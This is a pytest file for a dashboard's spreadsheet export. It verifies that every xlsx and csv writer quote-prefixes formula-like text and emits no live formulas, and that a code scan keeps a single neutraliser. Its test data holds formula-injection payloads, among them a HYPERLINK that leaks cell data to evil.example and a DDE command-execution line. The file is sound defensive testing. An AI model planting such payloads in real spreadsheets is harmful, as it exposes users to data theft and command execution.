"""No spreadsheet we write carries a live formula from the data (etl.cellsafe).

Every writer — the slide deck's embedded chart workbooks, chart and table downloads, 即席查询
downloads and the intake error report — gets the same hostile text; each xlsx is unzipped
and must hold no ``<f>`` element, the text must be intact and quote-prefixed. A code scan
keeps the neutraliser the only one.
"""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest
from pptx import Presentation

from chuangshu import deck, export, intake
from etl import cellsafe
from chuangshu.filters import Filters
from etl.load import load_files
from etl.pipeline import parse_file
from etl.reference import load_reference

ROOT = Path(__file__).resolve().parent.parent
TODAY = date(2022, 6, 30)
COMMUNITY = "桂南社区"
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "=1+1", "+1+1", "-1+1", "@SUM(1,1)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
HEADER = ["事项编号", "社区", "小区", "类别", "登记日期", "办结日期", "事项描述"]


def _unescape(value: object) -> object:
    """Excel's _xHHHH_ escapes for control characters (openpyxl leaves them as they are)."""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def formulas(xlsx: bytes) -> list[str]:
    """Every <f> element in every part of an xlsx."""
    found: list[str] = []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.endswith(".xml"):
                found += re.findall(r"<f[ >].*?</f>|<f/>", z.read(name).decode("utf-8", "replace"))
    return found


def text_cells(xlsx: bytes) -> dict[str, list[bool]]:
    """Text value -> quote-prefix flags of every text cell holding it, over all sheets."""
    out: dict[str, list[bool]] = {}
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "s" and cell.value is not None:
                    out.setdefault(_unescape(cell.value), []).append(bool(cell.quotePrefix))
    return out


def assert_safe(xlsx: bytes, expected: list[str]) -> None:
    """No formula anywhere; each expected text is a text cell, quote-prefixed."""
    assert formulas(xlsx) == []
    cells = text_cells(xlsx)
    for text in expected:
        assert text in cells, (text, sorted(cells)[:20])
        assert all(cells[text]), f"{text!r} is not quote-prefixed"


def embedded_workbooks(pptx: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(pptx)) as z:
        return {n: z.read(n) for n in z.namelist() if n.startswith("ppt/embeddings/") and n.endswith(".xlsx")}


# --------------------------------------------------------------------------- the deck, from a ledger


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database loaded by the real ETL from one ledger whose 小区 and descriptions are formulas."""
    folder = tmp_path_factory.mktemp("hostile")
    rows = [HEADER] + [[f"X-{i}", COMMUNITY, text, "卫生", "2021-03-05", "2021-03-09" if i % 2 else "", text]
                       for i, text in enumerate(HOSTILE)]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    ledger = folder / f"{COMMUNITY}_事项台账.csv"
    ledger.write_text(buffer.getvalue(), encoding="utf-8")
    db = folder / "hostile.duckdb"
    load_files([ledger], db, today=TODAY)
    return db


def test_a_deck_from_a_ledger_with_formula_cells_has_no_formula_in_any_embedded_workbook(hostile_db: Path) -> None:
    con = duckdb.connect(str(hostile_db), read_only=True)
    try:
        stored = {r[0] for r in con.execute("SELECT DISTINCT compound FROM cases").fetchall()}
        data = deck.build(con.cursor(), Filters().only(COMMUNITY), generated_on=TODAY)
    finally:
        con.close()
    # the loader keeps the text (it trims whitespace, so tab and CR go): it reaches the deck as data
    assert len(stored) == len({t.strip() for t in HOSTILE}) and all(map(cellsafe.is_formula_like, stored))
    books = embedded_workbooks(data)
    assert len(books) >= 5
    for name, xlsx in books.items():
        assert formulas(xlsx) == [], name
    compounds = [b for b in books.values() if set(text_cells(b)) >= stored]
    assert compounds, "the 小区 chart's workbook holds every compound"
    assert_safe(compounds[0], sorted(stored))
    # the chart itself (c:cat string cache) shows the names as plain text, unchanged
    prs = Presentation(io.BytesIO(data))
    shown = {str(c) for s in prs.slides for sh in s.shapes if sh.has_chart for c in sh.chart.plots[0].categories}
    assert stored <= shown


def test_deck_chart_data_writes_categories_and_series_names_as_text() -> None:
    data = deck.ChartData(number_format="#,##0")
    data.categories = HOSTILE
    data.add_series("=SUM(1,1)", list(range(len(HOSTILE))))
    data.add_series("普通系列", [None] * len(HOSTILE))
    assert_safe(data.xlsx_blob, [*HOSTILE, "=SUM(1,1)"])
    values = openpyxl.load_workbook(io.BytesIO(data.xlsx_blob)).active
    assert [values.cell(r, 2).value for r in range(2, len(HOSTILE) + 2)] == list(range(len(HOSTILE)))


# --------------------------------------------------------------------------- every download path


def frame() -> pd.DataFrame:
    return pd.DataFrame({"小区": HOSTILE, "=count(*)": range(len(HOSTILE))})


def test_chart_and_table_downloads() -> None:
    assert_safe(export.to_xlsx_bytes(frame()), [*HOSTILE, "=count(*)"])


def test_sql_result_downloads() -> None:
    info = pd.DataFrame([("SQL", "SELECT '=1+1'"), ("参数 $x", "@SUM(1,1)")], columns=["项目", "内容"])
    assert_safe(export.to_xlsx_bytes({"结果": frame(), "查询说明": info}), [*HOSTILE, "@SUM(1,1)"])
    back = list(csv.reader(io.StringIO(export.to_csv_bytes(frame()).decode("utf-8-sig"), newline="")))
    assert back[0][1] == "'=count(*)"
    assert [row[0] for row in back[1:]] == ["'" + t for t in HOSTILE]


def test_intake_error_report(tmp_path: Path) -> None:
    rows = [HEADER] + [[f"E-{i}", COMMUNITY, None, "卫生", "2021-13-05", None, text] for i, text in enumerate(HOSTILE)]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    data = buffer.getvalue().encode("utf-8")
    name = "=桂南社区_事项台账.csv"
    parsed = parse_file(Path(name), load_reference(), today=TODAY, data=data)
    assert len(parsed.rejects) == len(HOSTILE)
    report = intake.error_report(name, data, parsed)
    assert_safe(report, [t for t in HOSTILE if t.strip() == t] + [name])


# --------------------------------------------------------------------------- one neutraliser


@pytest.mark.parametrize("value, like", [
    *[(t, True) for t in HOSTILE], ("桂雅社区", False), ("1+1", False), ("a=b", False), ("", False),
    (None, False), (5, False), (-3, False), (" =1", False),
])
def test_formula_like(value: object, like: bool) -> None:
    assert cellsafe.is_formula_like(value) is like
    assert cellsafe.neutralise(value) == ("'" + value if like else value)
    assert export.is_formula_like is cellsafe.is_formula_like and export.neutralise is cellsafe.neutralise


def test_a_plain_write_on_a_safe_workbook_stores_text() -> None:
    """Even a write() that slipped past review cannot make a formula, link or number."""
    buffer = io.BytesIO()
    book = cellsafe.workbook(buffer, strings_to_formulas=True)  # callers cannot switch the guard off
    ws = book.add_worksheet()
    ws.write(0, 0, "=1+1")
    ws.write(1, 0, "http://evil.example")
    ws.write(2, 0, "007")
    book.close()
    assert formulas(buffer.getvalue()) == []
    cells = text_cells(buffer.getvalue())
    assert {"=1+1", "http://evil.example", "007"} <= set(cells)


PRODUCT = [ROOT / "dashboard.py", *sorted((ROOT / "chuangshu").rglob("*.py")), *sorted((ROOT / "pages").rglob("*.py")),
           *sorted(p for p in (ROOT / "etl").rglob("*.py") if not p.name.startswith("sample"))]
# etl/sample*.py writes the synthetic sample ledgers, deliberately the way clerks do; it reads no user text.
COPY_PATTERNS = {
    "a formula-prefix list": re.compile(r"""["']=["']\s*,\s*["']\+["']|["']\+["']\s*,\s*["']-["']\s*,\s*["']@["']"""),
    "a startswith() on '='": re.compile(r"""startswith\(\s*\(?\s*["']="""),
    "an xlsxwriter workbook": re.compile(r"""\bimport xlsxwriter\b|\bWorkbook\("""),
    "python-pptx chart data with the stock workbook writer":
        re.compile(r"""(?<!class ChartData\()\b(Category|Xy|Bubble)ChartData\("""),
}


def test_no_other_neutraliser_or_workbook_writer_in_the_code() -> None:
    found = []
    for path in PRODUCT:
        if path.name == "cellsafe.py":
            continue
        text = path.read_text(encoding="utf-8")
        for what, pattern in COPY_PATTERNS.items():
            for m in pattern.finditer(text):
                line = text.count("\n", 0, m.start()) + 1
                found.append(f"{path.relative_to(ROOT)}:{line}: {what}: {m.group(0)}")
    assert not found, "use etl.cellsafe instead:\n" + "\n".join(found)


def test_the_scan_finds_copies() -> None:
    """The patterns above match the code they forbid (so the scan can fail)."""
    samples = {
        "a formula-prefix list": 'PREFIXES = ("=", "+", "-", "@")',
        "a startswith() on '='": 'text.startswith(("=", "@"))',
        "an xlsxwriter workbook": "book = xlsxwriter.Workbook(buffer)",
        "python-pptx chart data with the stock workbook writer": "data = CategoryChartData()",
    }
    for what, sample in samples.items():
        assert COPY_PATTERNS[what].search(sample), what
    assert not COPY_PATTERNS["python-pptx chart data with the stock workbook writer"].search(
        "class ChartData(CategoryChartData):")
